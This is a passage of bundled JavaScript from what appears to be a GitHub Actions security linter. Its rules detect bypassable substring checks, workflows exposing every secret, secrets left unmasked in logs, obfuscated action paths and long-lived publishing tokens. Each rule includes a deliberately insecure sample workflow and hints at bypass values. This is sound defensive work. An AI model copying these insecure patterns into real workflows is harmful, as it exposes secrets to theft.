        'them. Reported as an error for such values, and as a note for other contexts (`github.event_name`, `runner.name`), ' +
        'where the test is as loose but the value is not chosen freely.',
    fix: 'Compare against a real list: `contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)`, or ' +
        "write the comparisons out (`github.ref == 'refs/heads/main' || github.ref == 'refs/heads/release'`).",
    before: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        "    if: contains('refs/heads/main refs/heads/release', github.ref)",
        '    steps:',
        '      - run: ./deploy.sh',
    ].join('\n'),
    after: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    if: contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)',
        '    steps:',
        '      - run: ./deploy.sh',
    ].join('\n'),
});
/** Values whoever starts the run can choose: ref and actor names, SHAs, inputs, env variables (zizmor's list). */
const CHOSEN = [
    'github.actor',
    'github.base_ref',
    'github.head_ref',
    'github.ref',
    'github.ref_name',
    'github.sha',
    'github.triggering_actor',
];
function chosen(path) {
    const lower = path.toLowerCase();
    if (lower.startsWith('env.') || lower.startsWith('inputs.') || lower === 'env' || lower === 'inputs')
        return true;
    return CHOSEN.some((prefix) => lower === prefix || lower.startsWith(`${prefix}.`));
}
/** A value that passes a substring test without being one of the listed items: the first item cut short. */
function bypass(haystack) {
    const first = haystack.split(/[\s,;|]+/).find((item) => item.length > 1);
    return first ? ` (say '${first.slice(0, -1)}')` : '';
}
function auditUnsoundContains(wf) {
    const findings = [];
    for (const placed of conditions(wf)) {
        if (!placed.ast || placed.condition.kind === 'embedded')
            continue;
        for (const node of (0,src/* expressionNodes */.YP)(placed.ast)) {
            if (!(node instanceof src/* FunctionCall */.R6) || node.functionName.lexeme.toLowerCase() !== 'contains')
                continue;
            const [haystack, needle] = node.args;
            if (!(haystack instanceof src/* Literal */.uS) || !(haystack.literal instanceof src/* StringData */.uQ) || !needle)
                continue;
            const path = (0,src/* contextPath */.VJ)(needle);
            if (path === undefined)
                continue;
            const range = (0,src/* expressionRange */.Y9)(placed.condition.expression, node);
            const written = placed.condition.expression.slice(range.start, range.end);
            const severity = chosen(path) ? 'error' : 'note';
            const risk = severity === 'error'
                ? `whoever starts the run chooses ${path}, and any substring of '${haystack.literal.value}' passes the check${bypass(haystack.literal.value)}`
                : `${path} is not chosen freely, but any part of the text passes`;
            findings.push({
                ...at(wf, unsoundContainsRule, conditionNodePosition(placed, node), `${written} tests whether ${path} is a substring of a string, not one of a list: ${risk}. ` +
                    `Use contains(fromJSON('[...]'), ${path}) with a JSON list, or == comparisons.`, { job: placed.job, ...(placed.step ? { step: placed.step } : {}) }),
                severity,
            });
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/overprovisioned-secrets.ts


const overprovisionedSecretsRule = rule({
    id: 'overprovisioned-secrets',
    title: 'The whole secrets context is handed to the job',
    severity: 'warning',
    why: 'The runner gets only the secrets a job names (`secrets.NPM_TOKEN`). `toJSON(secrets)` names them all, and `secrets[...]` ' +
        "with a computed key (`secrets[format('TOKEN_{0}', matrix.env)]`) may pick any: either way every secret of the " +
        'repository, organization and environment reaches the job, so a compromised step or dependency there can take them all, ' +
        'not just the one it needed.',
    fix: 'Name each secret the step needs (`TOKEN: ${{ secrets.NPM_TOKEN }}`). For a per-environment secret, give the job a ' +
        'GitHub environment and the same secret name in each, instead of building the name.',
    before: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: ./deploy.sh',
        '        env:',
        '          SECRETS: ${{ toJSON(secrets) }}',
    ].join('\n'),
    after: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: ./deploy.sh',
        '        env:',
        '          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}',
    ].join('\n'),
});
const isSecrets = (expr) => expr instanceof src/* ContextAccess */.QC && expr.name.lexeme.toLowerCase() === 'secrets';
/** What in an expression hands out every secret: `toJSON(secrets)`, or `secrets[...]` with a key that is not a literal. */
function overprovisions(expr) {
    const out = [];
    for (const node of (0,src/* expressionNodes */.YP)(expr)) {
        if (node instanceof src/* FunctionCall */.R6 && node.functionName.lexeme.toLowerCase() === 'tojson' && isSecrets(node.args[0]))
            out.push('toJSON(secrets) serialises every secret');
        else if (node instanceof src/* IndexAccess */.p_ && isSecrets(node.expr) && !(node.index instanceof src/* Literal */.uS))
            out.push('secrets[...] with a computed key may pick any secret');
    }
    return out;
}
function auditOverprovisionedSecrets(wf) {
    const findings = [];
    for (const found of (0,src/* documentExpressions */.V9)(wf)) {
        if (!/secrets/i.test(found.expression))
            continue;
        let ast;
        try {
            ast = (0,src/* parseExpression */.YK)(found.expression);
        }
        catch {
            continue;
        }
        if (!ast)
            continue;
        for (const what of overprovisions(ast)) {
            findings.push(at(wf, overprovisionedSecretsRule, found, `\${{ ${found.expression} }}: ${what}, so the runner hands every secret to the job, not just the ones it uses. ` +
                'Name the secrets the step needs (secrets.NAME).', { ...(found.job ? { job: found.job } : {}), ...(found.step ? { step: found.step } : {}) }));
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/unredacted-secrets.ts


const unredactedSecretsRule = rule({
    id: 'unredacted-secrets',
    title: 'A secret is parsed as JSON, and its parts are not masked in logs',
    severity: 'warning',
    why: 'The runner masks each secret in the logs by its exact value. `fromJSON(secrets.CONFIG).password` is a part of that ' +
        'value, which the runner does not know as a secret: printed by a step, an error message or a debug log, it appears in ' +
        'clear text for everyone who can read the run.',
    fix: 'Store each field that is secret as a secret of its own (`secrets.DB_PASSWORD`), or mask it first (`echo "::add-mask::$VALUE"` ' +
        'in the step that reads it, before anything can print it).',
    before: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: ./deploy.sh',
        '        env:',
        '          DB_PASSWORD: ${{ fromJSON(secrets.DB).password }}',
    ].join('\n'),
    after: [
        'on: push',
        'jobs:',
        '  deploy:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: ./deploy.sh',
        '        env:',
        '          DB_PASSWORD: ${{ secrets.DB_PASSWORD }}',
    ].join('\n'),
});
/** The secrets an expression decodes with `fromJSON` (`secrets.X`, or `secrets` itself). */
function decodedSecrets(expr) {
    const out = [];
    for (const node of (0,src/* expressionNodes */.YP)(expr)) {
        if (!(node instanceof src/* FunctionCall */.R6) || node.functionName.lexeme.toLowerCase() !== 'fromjson')
            continue;
        const path = node.args[0] ? (0,src/* contextPath */.VJ)(node.args[0]) : undefined;
        if (path !== undefined && (path === 'secrets' || path.startsWith('secrets.')))
            out.push(path);
    }
    return out;
}
function auditUnredactedSecrets(wf) {
    const findings = [];
    for (const found of (0,src/* documentExpressions */.V9)(wf)) {
        if (!/fromjson/i.test(found.expression))
            continue;
        let ast;
        try {
            ast = (0,src/* parseExpression */.YK)(found.expression);
        }
        catch {
            continue;
        }
        if (!ast)
            continue;
        for (const secret of decodedSecrets(ast)) {
            findings.push(at(wf, unredactedSecretsRule, found, `\${{ ${found.expression} }} parses ${secret} as JSON: the runner masks the secret's whole value in logs, not the ` +
                'parts taken out of it, so they can appear in clear text. Store each secret field as its own secret.', { ...(found.job ? { job: found.job } : {}), ...(found.step ? { step: found.step } : {}) }));
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/obfuscation.ts


const obfuscationRule = rule({
    id: 'obfuscation',
    title: 'A `uses:` path or an expression is written in a needlessly roundabout way',
    severity: 'note',
    why: 'GitHub accepts `uses: actions/checkout/./@v5`, `uses: org/repo/a/../b@v1`, `actions/cache//save@v4` and expressions ' +
        "whose value is fixed (`${{ 'main' }}`, `${{ format('{0}', 'x') }}`, `${{ true || github.sha }}` parts), but none of " +
        'them says anything the plain form does not. They hide what runs from reviewers and from tools that match action names ' +
        'and expressions (pinning, allow-lists, injection checks), which is why code meant to slip through review uses them. ' +
        'A string literal that writes `${{` or `}}` (the only way to put them in a value) is not reported.',
    fix: 'Write the plain form: the normalized action path (`actions/checkout@v5`, `org/repo/b@v1`), and the value instead of a ' +
        "constant expression (`main` for `${{ 'main' }}`).",
    before: [
        'on: push',
        'jobs:',
        '  build:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/checkout/./@v5',
        "      - run: make ${{ format('{0}', 'release') }}",
    ].join('\n'),
    after: [
        'on: push',
        'jobs:',
        '  build:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/checkout@v5',
        '      - run: make release',
    ].join('\n'),
});
/** Functions whose result is fixed when their arguments are (zizmor's list: `fromJSON` is left out). */
const PURE_FUNCTIONS = new Set(['contains', 'startswith', 'endswith', 'format', 'tojson', 'join']);
/** True when the expression's value does not depend on the run: literals, and operators and pure calls over them. */
function isConstant(expr) {
    if (expr instanceof src/* Literal */.uS)
        return true;
    if (expr instanceof src/* Grouping */.aU)
        return isConstant(expr.group);
    if (expr instanceof src/* Unary */._c)
        return isConstant(expr.expr);
    if (expr instanceof src/* Binary */.yI)
        return isConstant(expr.left) && isConstant(expr.right);
    if (expr instanceof src/* Logical */.oD)
        return expr.args.every(isConstant);
    if (expr instanceof src/* FunctionCall */.R6)
        return PURE_FUNCTIONS.has(expr.functionName.lexeme.toLowerCase()) && expr.args.every(isConstant);
    return false;
}
function children(expr) {
    if (expr instanceof src/* Grouping */.aU)
        return [expr.group];
    if (expr instanceof src/* Unary */._c)
        return [expr.expr];
    if (expr instanceof src/* Binary */.yI)
        return [expr.left, expr.right];
    if (expr instanceof src/* Logical */.oD || expr instanceof src/* FunctionCall */.R6)
        return expr.args;
    if (expr instanceof src/* IndexAccess */.p_)
        return [expr.expr, expr.index];
    return [];
}
/** The largest constant parts of an expression that are more than a literal (a literal argument is plain). */
function constantParts(expr) {
    if (!(expr instanceof src/* Literal */.uS) && isConstant(expr))
        return [expr];
    return children(expr).flatMap(constantParts);
}
/** A literal that spells `${{` or `}}`: the way to write those characters in a value, not a trick. */
function escapesFence(expr) {
    return expr instanceof src/* Literal */.uS && expr.literal instanceof src/* StringData */.uQ && /\$\{\{|\}\}/.test(expr.literal.value);
}
/** What a `uses:` path says needlessly (`.`, `..` or empty components), and its plain form when there is one. */
function usesDetours(uses) {
    const value = uses.trim();
    if (value.startsWith('docker://'))
        return undefined;
    const local = value.startsWith('./');
    const at = local ? -1 : value.lastIndexOf('@');
    const path = at === -1 ? value : value.slice(0, at);
    const ref = at === -1 ? '' : value.slice(at);
    const parts = path.split('/');
    // `./` starts a local path; `owner/repo` starts a remote one. Only what follows can be a detour.
    const head = local ? ['.'] : parts.slice(0, 2);
    const rest = parts.slice(head.length);
    if (!local && parts.length < 2)
        return undefined;
    const detours = new Set();
    const kept = [];
    let climbsOut = false;
    // `uses: ./` (the repository's own root action) and `./dir/` are how local paths are written.
    if (local && rest[rest.length - 1] === '')
        rest.pop();
    for (const part of rest) {
        if (part === '' || part === '.') {
            detours.add(part === '' ? 'an empty path component (`//` or a trailing `/`)' : 'a `.` component');
        }
        else if (part === '..') {
            detours.add('a `..` component');
            if (kept.length)
                kept.pop();
            else
                climbsOut = true;
        }
        else {
            kept.push(part);
        }
    }
    if (!detours.size)
        return undefined;
    const plain = climbsOut ? undefined : [...head, ...kept].join('/') + ref;
    return { detours: [...detours], ...(plain !== undefined ? { plain } : {}) };
}
function auditObfuscation(wf) {
    const findings = [];
    const usesFinding = (uses, job, step) => {
        if (!uses)
            return;
        const found = usesDetours(uses.value);
        if (!found)
            return;
        const plain = found.plain
            ? `Write ${found.plain}, which names the same thing.`
            : 'It climbs above the repository root: write the path the action is really at.';
        findings.push(at(wf, obfuscationRule, uses, `uses: ${uses.value.trim()} has ${found.detours.join(' and ')}. ${plain}`, {
            job,
            ...(step ? { step } : {}),
        }));
    };
    for (const job of wf.jobs) {
        usesFinding(job.uses, job);
        for (const step of job.steps)
            usesFinding(step.uses, job, step);
    }
    for (const found of (0,src/* documentExpressions */.V9)(wf)) {
        let ast;
        try {
            ast = (0,src/* parseExpression */.YK)(found.expression);
        }
        catch {
            continue;
        }
        if (!ast || escapesFence(ast))
            continue;
        const where = { ...(found.job ? { job: found.job } : {}), ...(found.step ? { step: found.step } : {}) };
        if (isConstant(ast)) {
            const value = (0,src/* constantText */._r)(ast);
            findings.push(at(wf, obfuscationRule, found, `\${{ ${found.expression} }} reads nothing from the run: its value is always ` +
                `${value === undefined ? 'the same' : `'${value}'`}. Write the value instead of the expression.`, where));
            continue;
        }
        for (const part of constantParts(ast)) {
            const range = (0,src/* expressionRange */.Y9)(found.expression, part);
            const start = found.toPosition(range.start);
            const end = found.toPosition(Math.max(range.start, range.end - 1));
            const written = found.expression.slice(range.start, range.end);
            const value = (0,src/* constantText */._r)(part);
            findings.push(at(wf, obfuscationRule, { line: start.line, column: start.column, endLine: end.line, endColumn: end.column + 1 }, `${written} in \${{ ${found.expression} }} reads nothing from the run: it is always ` +
                `${value === undefined ? 'the same' : `'${value}'`}. Write that value instead.`, where));
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/use-trusted-publishing.ts


const useTrustedPublishingRule = rule({
    id: 'use-trusted-publishing',
    title: 'A long-lived registry token publishes where trusted publishing works',
    severity: 'warning',
    why: 'PyPI, npm, RubyGems and crates.io accept trusted publishing: the registry trusts a short-lived OIDC token that GitHub ' +
        'issues to this workflow (`id-token: write`), so no secret is stored. A long-lived API token (NPM_TOKEN, a PyPI ' +
        'password, GEM_HOST_API_KEY, CARGO_REGISTRY_TOKEN) works from anywhere until someone revokes it: leaked from a log, a ' +
        'compromised dependency or a fork, it publishes malicious versions of your package, as several npm worms did. ' +
        'Reported when a publish to one of those registries (pypa/gh-action-pypi-publish `password:`, rubygems/release-gem ' +
        'without trusted publishing, `npm`/`pnpm`/`yarn`/`bun publish`, `cargo publish`, `twine upload`, `uv publish`, ' +
        '`poetry publish`, `gem push`) is given such a token; dry runs and other registries are not reported.',
    fix: "Configure this workflow as a trusted publisher in the package's registry settings, grant the publishing job " +
        '`id-token: write`, remove the token from the step (pypa/gh-action-pypi-publish and rubygems/release-gem then use OIDC; ' +
        'npm 11.5.1+ does on its own; for crates.io use rust-lang/crates-io-auth-action), and delete the secret.',
    before: [
        'on:',
        '  release:',
        '    types: [published]',
        'jobs:',
        '  publish:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: pypa/gh-action-pypi-publish@release/v1',
        '        with:',
        '          password: ${{ secrets.PYPI_TOKEN }}',
    ].join('\n'),
    after: [
        'on:',
        '  release:',
        '    types: [published]',
        'jobs:',
        '  publish:',
        '    runs-on: ubuntu-latest',
        '    environment: pypi',
        '    permissions:',
        '      id-token: write',
        '    steps:',
        '      - uses: pypa/gh-action-pypi-publish@release/v1',
    ].join('\n'),
});
/** Upload URLs of the registries that take trusted publishing (PyPI and TestPyPI, npmjs, rubygems.org). */
const PYPI_URLS = new Set(['https://upload.pypi.org/legacy/', 'https://test.pypi.org/legacy/']);
function normalUrl(value) {
    return value.trim().replace(/\/+$/, '').toLowerCase();
}
/** Long-lived token variables each tool reads. */
const NPM_TOKENS = ['NODE_AUTH_TOKEN', 'NPM_TOKEN', 'NPM_AUTH_TOKEN', 'YARN_NPM_AUTH_TOKEN', 'NPM_CONFIG_TOKEN'];
const TWINE_TOKENS = ['TWINE_PASSWORD'];
const UV_TOKENS = ['UV_PUBLISH_TOKEN', 'UV_PUBLISH_PASSWORD'];
const POETRY_TOKENS = ['POETRY_PYPI_TOKEN_PYPI', 'POETRY_HTTP_BASIC_PYPI_PASSWORD'];
/** The publish a command performs, or undefined (other commands, dry runs, other registries). */
function publishOf(command) {
    const words = command.argv.map((word) => word.literal ?? word.text);
    const [program, ...args] = words;
    if (!program)
        return undefined;
    const name = program
        .split('/')
        .pop()
        .replace(/\.exe$/i, '')
        .toLowerCase();
    const has = (...flags) => args.some((arg) => flags.some((f) => arg === f || arg.startsWith(`${f}=`)));
    const value = (...flags) => {
        for (let i = 0; i < args.length; i++) {
            for (const flag of flags) {
                if (args[i] === flag)
                    return args[i + 1];
                if (args[i].startsWith(`${flag}=`))
                    return args[i].slice(flag.length + 1);
            }
        }
        return undefined;
    };
    if (has('--dry-run'))
        return undefined;
    const npmRegistry = () => {
        const registry = value('--registry');
        return registry === undefined || normalUrl(registry) === 'https://registry.npmjs.org';
    };
    // The subcommand: the first word that is not a flag or a `+toolchain` (`npm run publish` runs a script).
    const positional = args.filter((arg) => !arg.startsWith('-') && !arg.startsWith('+'));
    switch (name) {
        case 'npm':
        case 'pnpm':
        case 'bun':
            return positional[0] === 'publish' && npmRegistry() ? { registry: 'npm', tokens: NPM_TOKENS } : undefined;
        case 'yarn': {
            const publishes = positional[0] === 'publish' || (positional[0] === 'npm' && positional[1] === 'publish');
            return publishes && npmRegistry() ? { registry: 'npm', tokens: NPM_TOKENS } : undefined;
        }
        case 'cargo':
            if (positional[0] !== 'publish' || has('-n', '--registry', '--index'))
                return undefined;
            return { registry: 'crates.io', tokens: ['CARGO_REGISTRY_TOKEN'] };
        case 'twine': {
            if (positional[0] !== 'upload')
                return undefined;
            const url = value('--repository-url');
            const repository = value('-r', '--repository');
            if (url !== undefined && !PYPI_URLS.has(`${normalUrl(url)}/`))
                return undefined;
            if (repository !== undefined && !['pypi', 'testpypi'].includes(repository.toLowerCase()))
                return undefined;
            return { registry: 'PyPI', tokens: TWINE_TOKENS };
        }
        case 'uv': {
            if (positional[0] !== 'publish')
                return undefined;
            const url = value('--publish-url');
            if (url !== undefined && !PYPI_URLS.has(`${normalUrl(url)}/`))
                return undefined;
            if (has('--index'))
                return undefined;
            return { registry: 'PyPI', tokens: UV_TOKENS };
        }
        case 'poetry':
            return positional[0] === 'publish' && !has('-r', '--repository')
                ? { registry: 'PyPI', tokens: POETRY_TOKENS }
                : undefined;
        case 'gem': {
            if (positional[0] !== 'push')
                return undefined;
            const host = value('--host');
            if (host !== undefined && normalUrl(host) !== 'https://rubygems.org')
                return undefined;
            return { registry: 'RubyGems', tokens: ['GEM_HOST_API_KEY'] };
        }
        default:
            // `python -m twine upload`, `uvx twine upload`, `pipx run twine upload`.
            if (/^python[\d.]*$/.test(name) || name === 'uvx' || name === 'pipx') {
                const at = args.findIndex((arg) => arg === 'twine' || arg.startsWith('twine=='));
                if (at !== -1 && args[at + 1] === 'upload' && !has('--repository-url', '-r', '--repository'))
                    return { registry: 'PyPI', tokens: TWINE_TOKENS };
            }
            return undefined;
    }
}
/** True when a value reads a secret other than the GITHUB_TOKEN (a stored, long-lived credential). */
function readsStoredSecret(text) {
    return contextsIn(text).some((path) => path === 'secrets' || (path.startsWith('secrets.') && path.toLowerCase() !== 'secrets.github_token'));
}
/**
 * Where a publish gets a stored token: an argument (`--token ${{ secrets.X }}`, `--password`), an
 * assignment before the command, or the step / job / workflow env. Undefined when it gets none.
 */
function tokenSource(wf, job, step, command, publish) {
    const script = step.run;
    for (const word of command.argv) {
        if (readsStoredSecret(word.raw))
            return { position: script.offsetToPosition(word.offset), what: 'a secret on the command line' };
    }
    for (const assignment of command.assignments) {
        if (publish.tokens.includes(assignment.name) && assignment.value && readsStoredSecret(assignment.value.raw))
            return { position: script.offsetToPosition(assignment.offset), what: assignment.name };
    }
    const layers = envLayers(wf, job, step);
    for (const name of publish.tokens) {
        const entry = lookupEnv(layers, name);
        if (entry && readsStoredSecret(entry.value.value))
            return { position: entry.value, what: name };
    }
    return undefined;
}
function shellOf(wf, job, step) {
    const shell = ((0,src/* effectiveShell */.oL)(wf, job, step) ?? 'bash').trim().toLowerCase();
    if (/^(bash|sh)(\s|$)/.test(shell))
        return shell;
    return undefined;
}
function auditUseTrustedPublishing(wf) {
    const findings = [];
    const report = (position, registry, message, job, step) => {
        findings.push(at(wf, useTrustedPublishingRule, position, `${message} ${registry} supports trusted publishing: publish with an OIDC token (id-token: write) and delete the long-lived secret.`, { job, step }));
    };
    for (const job of wf.jobs) {
        // npm publishes go to the registry setup-node configured, when it configured one.
        const setupRegistry = job.steps
            .filter((s) => stepUses(s, 'actions/setup-node'))
            .map((s) => s.with.get('registry-url')?.value)
            .find((url) => url !== undefined);
        const otherNpmRegistry = setupRegistry !== undefined && normalUrl(setupRegistry) !== 'https://registry.npmjs.org';
        for (const step of job.steps) {
            if (stepUses(step, 'pypa/gh-action-pypi-publish')) {
                const password = step.with.get('password');
                const url = step.with.get('repository-url') ?? step.with.get('repository_url');
                if (password?.value.trim() && (!url || PYPI_URLS.has(`${normalUrl(url.value)}/`)))
                    report(password, 'PyPI', 'pypa/gh-action-pypi-publish is given a password (an API token).', job, step);
            }
            if (stepUses(step, 'rubygems/release-gem')) {
                const setup = step.with.get('setup-trusted-publisher');
                if (setup?.value.trim().toLowerCase() === 'false')
                    report(setup, 'RubyGems', 'rubygems/release-gem is told not to set up trusted publishing, so it pushes with a stored API key.', job, step);
            }
            if (stepUses(step, 'rubygems/configure-rubygems-credentials')) {
                const token = step.with.get('api-token');
                const server = step.with.get('gem-server');
                if (token?.value.trim() && (!server || normalUrl(server.value) === 'https://rubygems.org'))
                    report(token, 'RubyGems', 'rubygems/configure-rubygems-credentials is given an API token.', job, step);
            }
            if (stepUses(step, 'js-devtools/npm-publish')) {
                const token = step.with.get('token');
                const registry = step.with.get('registry');
                if (token &&
                    readsStoredSecret(token.value) &&
                    (!registry || normalUrl(registry.value) === 'https://registry.npmjs.org'))
                    report(token, 'npm', 'js-devtools/npm-publish is given a stored npm token.', job, step);
            }
            if (!step.run || !shellOf(wf, job, step))
                continue;
            const parsed = (0,src/* parseShell */.aV)(step.run.text, { posix: shellOf(wf, job, step).startsWith('sh') });
            if (!parsed.ok && !parsed.partial)
                continue;
            for (const command of parsed.commands) {
                const publish = publishOf(command);
                if (!publish || (publish.registry === 'npm' && otherNpmRegistry))
                    continue;
                const source = tokenSource(wf, job, step, command, publish);
                if (!source)
                    continue;
                const what = command.argv
                    .map((word) => word.literal ?? word.text)
                    .slice(0, 2)
                    .join(' ');
                report(source.position, publish.registry, `\`${what}\` publishes with a long-lived token (${source.what}).`, job, step);
                break;
            }
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/index.ts
// The dangerous-pattern rules of harden-permissions: each rule is one audit over the workflow model.










































/** Each rule and its audit; policy-driven audits read the policy's settings, the rest ignore them. */
const AUDITS = [
    [templateInjectionRule, auditTemplateInjection],
    [dangerousTriggersRule, auditDangerousTriggers],
    [artipackedRule, auditArtipacked],
    [secretsInheritRule, auditSecretsInherit],
    [githubEnvRule, auditGithubEnv],
    [insecureCommandsRule, auditInsecureCommands],
    [hardcodedContainerCredentialsRule, auditContainerCredentials],
    [cachePoisoningRule, auditCachePoisoning],
    [staticCloudCredentialsRule, auditStaticCloudCredentials],
    [selfHostedRunnerRule, auditSelfHostedRunner],
    [secretsOutsideEnvRule, auditSecretsOutsideEnv],
    [forbiddenUsesRule, auditForbiddenUses],
    [botConditionsRule, auditBotConditions],
    [unsoundConditionRule, auditUnsoundCondition],
    [unsoundContainsRule, auditUnsoundContains],
    [overprovisionedSecretsRule, auditOverprovisionedSecrets],
    [unredactedSecretsRule, auditUnredactedSecrets],
    [obfuscationRule, auditObfuscation],
    [misfeatureRule, auditMisfeature],
    [anonymousDefinitionRule, auditAnonymousDefinition],
    [concurrencyLimitsRule, auditConcurrencyLimits],
    [githubAppRule, auditGithubApp],
    [useTrustedPublishingRule, auditUseTrustedPublishing],
];
/** The audits of Dependabot's configuration (`.github/dependabot.yml`). */
const DEPENDABOT_AUDITS = [
    [dependabotCooldownRule, auditDependabotCooldown],
    [dependabotExecutionRule, auditDependabotExecution],
];
/** Every dangerous-pattern rule, for the rule registry, SARIF and the README. */
const patternRules = [...AUDITS, ...DEPENDABOT_AUDITS].map(([definition]) => definition);
/**
 * Runs the dangerous-pattern rules over one loaded file. A file with errors (invalid-workflow) is
 * audited on what could be read. Findings are sorted (file, line, column, rule).
 */
function auditPatterns(wf, options = {}) {
    const findings = [];
    for (const [definition, audit] of AUDITS) {
        if (options.rules && !options.rules.includes(definition.id))
            continue;
        // One push per finding: a spread of a huge workflow's findings would overflow the call stack.
        for (const finding of audit(wf, options.settings ?? {}))
            findings.push(finding);
    }
    return (0,finding/* sortFindings */.Tc)(findings);
}
/** Runs the Dependabot rules over one loaded configuration; sorted as auditPatterns. */
function auditDependabot(dep, options = {}) {
    const findings = [];
    for (const [definition, audit] of DEPENDABOT_AUDITS) {
        if (options.rules && !options.rules.includes(definition.id))
            continue;
        for (const finding of audit(dep, options.settings ?? {}))
            findings.push(finding);
    }
    return (0,finding/* sortFindings */.Tc)(findings);
}

;// CONCATENATED MODULE: ./packages/permissions/src/policy-settings.ts

/** Keys of the policy's `harden-permissions:` section that are not inputs: settings of the audits. */
const AUDIT_POLICY_KEYS = [
    'secrets-require-environment',
    'forbidden-uses',
    'dependabot-cooldown-days',
    'import-zizmor-config',
];
function invalid(policy, command, key, message, fix) {
    return new errors/* ConfigurationError */.j1('invalid-policy', `${command}.${key} ${message}`, { file: policy.file, ...policy.positionOf([command, key]) }, fix);
}
/** A list of non-empty strings, or undefined when the value is not one. */
function stringList(value) {
    if (!Array.isArray(value) || !value.every((item) => typeof item === 'string' && item.trim() !== ''))
        return undefined;
    return value.map((item) => item.trim());
}
/** The policy-driven audits' settings from the command's policy section; bad values are ConfigurationErrors at their line. */
function auditSettings(policy, command) {
    const section = policy?.section(command);
    if (!policy || !section)
        return {};
    const settings = {};
    const secrets = section['secrets-require-environment'];
    if (secrets !== undefined && secrets !== null) {
        if (typeof secrets === 'boolean') {
            if ((0,src_policy/* policyBoolean */.F0)(policy, command, 'secrets-require-environment'))
                settings.secretsRequireEnvironment = true;
        }
        else {
            const names = stringList(secrets);
            if (!names || names.some((name) => !/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)))
                throw invalid(policy, command, 'secrets-require-environment', 'must be true, false or a list of secret names', 'Write `secrets-require-environment: true` for every secret, or list the names: `[NPM_TOKEN, DEPLOY_KEY]`.');
            if (names.length)
                settings.secretsRequireEnvironment = names.map((name) => name.toUpperCase());
        }
    }
    const forbidden = section['forbidden-uses'];
    if (forbidden !== undefined && forbidden !== null) {
        const parsed = forbiddenUses(forbidden);
        if (typeof parsed === 'string')
            throw invalid(policy, command, 'forbidden-uses', `is not valid: ${parsed}`, 'Write `forbidden-uses: {allow: [actions/*, octo-org/*]}` or `forbidden-uses: {deny: [owner/repo]}`: patterns owner/repo[/path][@ref].');
        settings.forbiddenUses = parsed;
    }
    const days = section['dependabot-cooldown-days'];
    if (days !== undefined && days !== null) {
        // Dependabot takes 1 to 90 days.
        if (typeof days !== 'number' || !Number.isInteger(days) || days < 1 || days > 90)
            throw invalid(policy, command, 'dependabot-cooldown-days', `must be a whole number of days from 1 to 90, got ${JSON.stringify(days)}`, 'Write a number such as `dependabot-cooldown-days: 7`.');
        settings.dependabotCooldownDays = days;
    }
    return settings;
}
/** A `uses:` pattern: `*`, or owner/repo[/path][@ref] with `*` globs. */
const USES_PATTERN = /^(\*|[^\s@/]+\/[^\s@]+)(@[^\s@]+)?$/;
/** `{allow: [...]}` or `{deny: [...]}` (one of them), or why not, as a message. */
function forbiddenUses(value) {
    if (!value || typeof value !== 'object' || Array.isArray(value))
        return 'it must be a mapping with allow or deny';
    const keys = Object.keys(value);
    if (keys.length !== 1 || (keys[0] !== 'allow' && keys[0] !== 'deny'))
        return `it must have exactly one of allow and deny, got ${keys.length ? keys.join(', ') : 'none'}`;
    const mode = keys[0];
    const patterns = stringList(value[mode]);
    if (!patterns)
        return `${mode} must be a list of patterns`;
    const bad = patterns.find((pattern) => !USES_PATTERN.test(pattern));
    if (bad !== undefined)
        return `${mode} has ${JSON.stringify(bad)}, which is not owner/repo[/path][@ref]`;
    return mode === 'allow' ? { allow: patterns } : { deny: patterns };
}

;// CONCATENATED MODULE: ./packages/permissions/src/zizmor-config.ts
// zizmor's configuration file as a source of suppressions (policy `import-zizmor-config: true`), so a
// repository moving from zizmor keeps its reviewed ignores: `rules.<id>.disable` and
// `rules.<id>.ignore` for the rules both tools name alike, and the config of forbidden-uses and
// dependabot-cooldown. Hostile content: read with readTextFile, aliases never expanded, never quoted.





/** Where zizmor looks at a repository's root, in its order. */
const ZIZMOR_CONFIG_FILES = ['.github/zizmor.yml', '.github/zizmor.yaml', 'zizmor.yml', 'zizmor.yaml'];
/** A zizmor configuration is a page of YAML. */
const MAX_ZIZMOR_CONFIG_BYTES = 256 * 1024;
/** The first of ZIZMOR_CONFIG_FILES in the workspace, or undefined. */
function findZizmorConfig(workspace) {
    return ZIZMOR_CONFIG_FILES.find((file) => (0,external_node_fs_.existsSync)((0,external_node_path_.resolve)(workspace, file)));
}
function loadZizmorConfig(workspace, file) {
    const text = (0,src_files/* readTextFile */.Gu)((0,external_node_path_.resolve)(workspace, file), {
        workspace,
        displayName: file,
        kind: 'zizmor configuration',
        maxBytes: MAX_ZIZMOR_CONFIG_BYTES,
    });
    return parseZizmorConfig(text, file);
}
const IGNORE_ENTRY = /^([^:\s]+\.ya?ml)(?::([1-9]\d*)(?::([1-9]\d*))?)?$/;
function parseZizmorConfig(text, file) {
    const lineCounter = new dist/* LineCounter */.HN();
    const lineOf = (node) => lineCounter.linePos(node?.range?.[0] ?? 0).line;
    const fail = (node, message, fix) => new errors/* ConfigurationError */.j1('invalid-zizmor-config', message, { file, line: lineOf(node) }, fix);
    let doc;
    try {
        doc = (0,dist/* parseDocument */.Tp)(text, { lineCounter, uniqueKeys: true, prettyErrors: false });
    }
    catch (error) {
        if (!(error instanceof RangeError))
            throw error;
